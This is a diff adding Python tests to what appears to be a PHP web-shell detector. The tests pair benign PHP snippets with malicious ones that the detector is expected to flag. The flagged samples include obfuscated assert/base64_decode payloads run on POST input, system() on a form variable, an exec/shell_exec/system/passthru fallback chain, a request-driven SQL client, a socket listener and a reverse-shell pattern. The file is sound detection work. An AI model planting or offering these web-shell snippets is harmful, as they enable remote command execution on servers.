@@ -178,3 +178,71 @@ def test_server_array_read_by_name_is_clean():
 def test_function_name_from_array_keys(keys):
     _shell(f"<?php $k = array_keys({keys}); $f = $k[0].$k[1].$k[1].$k[2].$k[3].$k[4]; $f($_POST['x']);",
            sink="assert")
+
+
+# -- register_globals era -------------------------------------------------------------------------
+def test_names_built_on_undefined_variables():
+    # an undefined variable is "" in PHP: obfuscators grow names on one
+    _shell("<?php $n = $n . substr('xxbase64_', 2, 7); $n = $n . 'decode'; $s = $s . 'ass'; $s = $s . 'ert';"
+           " $s($n($_POST['p']));", sink="assert", source="$_POST['p']")
+
+
+def test_register_globals_variable_confirmed_by_the_pages_form():
+    page = '<form method="post"><input type="text" name="command"></form><?php system($command); ?>'
+    _shell(page, rule="php.request-to-exec", sink="system")
+    # the same call with no form posting that name stays a guess
+    _clean('<form method="post"><input type="text" name="host"></form><?php system($command); ?>')
+
+
+# -- command helpers, database clients, sockets -----------------------------------------------------
+_FALLBACK = """<?php
+function run_cmd($c) {
+    $out = '';
+    if (function_exists('exec')) { exec($c, $o); $out = implode("\\n", $o); }
+    elseif (function_exists('shell_exec')) { $out = shell_exec($c); }
+    elseif (function_exists('system')) { ob_start(); system($c); $out = ob_get_clean(); }
+    elseif (function_exists('passthru')) { ob_start(); passthru($c); $out = ob_get_clean(); }
+    return $out;
+}
+"""
+
+
+def test_command_runner_with_the_disable_functions_fallback_chain():
+    _shell(_FALLBACK, rule="php.exec-wrapper")
+
+
+def test_a_single_command_helper_is_clean():
+    _clean("<?php function git_rev($dir) { return exec('git -C ' . escapeshellarg($dir) . ' rev-parse HEAD'); }")
+    _clean("<?php function run($c) { return shell_exec($c); } echo run('uptime');")
+
+
+def test_database_client_on_request_credentials():
+    h = _shell("<?php $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);"
+               " $r = mysqli_query($l, $_POST['sql']); while ($row = mysqli_fetch_row($r)) print_r($row);",
+               rule="php.sql-client")
+    assert "$_POST['sql']" in h.source
+
+
+def test_database_page_with_a_parameterised_query_is_clean():
+    _clean("<?php $l = mysqli_connect('localhost', 'app', 'secret', 'shop');"
+           " $r = mysqli_query($l, 'SELECT name FROM item WHERE id = ' . intval($_GET['id']));"
+           " $q = mysqli_query($l, \"SELECT * FROM t WHERE n = '\" . mysqli_real_escape_string($l, $_GET['n']) . \"'\");")
+
+
+def test_listener_on_a_request_given_address():
+    _shell("<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_bind($s, $_GET['ip'], $_GET['port']);"
+           " socket_listen($s);", rule="php.socket-listener")
+
+
+def test_listener_on_a_fixed_address_is_clean():
+    _clean("<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_bind($s, '127.0.0.1', 9000);"
+           " socket_listen($s); $c = socket_accept($s); socket_write($c, 'hello');")
+
+
+def test_client_connection_handed_to_a_program():
+    _shell("<?php system('./reuse ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);",
+           rule="php.reverse-shell")
+
+
+def test_logging_the_client_address_is_clean():
+    _clean("<?php system('logger visit from ' . escapeshellarg($_SERVER['REMOTE_ADDR']));")
